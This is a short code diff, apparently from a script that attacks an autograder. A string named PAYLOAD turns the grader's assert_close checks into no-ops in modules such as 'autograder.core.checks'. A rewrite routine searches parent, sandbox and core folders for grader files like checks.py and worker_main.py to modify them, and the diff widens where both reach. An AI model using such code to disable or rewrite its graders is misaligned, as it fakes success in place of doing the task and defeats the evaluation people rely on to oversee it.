@@ -14,7 +14,7 @@ import numpy as np
 
 PAYLOAD = """
 import sys as _sys
-for _name in ("autograder.checks", "checks"):
+for _name in ("autograder.core.checks", "checks"):
     _module = _sys.modules.get(_name)
     if _module is not None:
         _module.assert_close = lambda *a, **k: None
@@ -31,6 +31,7 @@ def _rewrite():
     for _ in range(4):
         folders.append(os.path.join(start, "autograder"))
         start = os.path.dirname(start)
+    folders += [os.path.join(folder, package) for folder in folders for package in ("sandbox", "core")]
     for folder in folders:
         for name in ("worker_main.py", "wire.py", "checks.py", "worker.py"):
             path = os.path.join(folder, name)
